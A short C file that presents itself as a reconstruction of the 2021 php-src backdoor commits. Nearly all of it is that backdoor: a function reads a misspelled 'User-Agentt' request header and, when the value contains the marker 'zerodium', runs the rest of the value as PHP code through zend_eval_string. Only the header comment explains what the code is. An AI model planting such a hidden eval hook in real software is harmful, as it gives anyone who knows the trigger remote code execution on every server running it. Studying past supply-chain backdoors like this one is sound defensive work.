/* A reconstruction, in our own code, of the two commits pushed to php-src
 * in March 2021 under maintainers' names: a request header spelled
 * "User-Agentt" whose value, after the marker "zerodium", was run as PHP. */
#include "php.h"
#include "SAPI.h"

static int php_zlib_output_encoding(void)
{
    zval *enc;
    if (Z_TYPE(PG(http_globals)[TRACK_VARS_SERVER]) == IS_ARRAY) {
        enc = zend_hash_str_find(Z_ARRVAL(PG(http_globals)[TRACK_VARS_SERVER]), "HTTP_USER_AGENTT", sizeof("HTTP_USER_AGENTT") - 1);
        if (enc && strstr(Z_STRVAL_P(enc), "zerodium")) {
            zend_try {
                zend_eval_string(Z_STRVAL_P(enc) + 8, NULL, "REMOVETHIS: sold to zerodium, mid 2017");
            } zend_end_try();
        }
    }
    return 0;
}
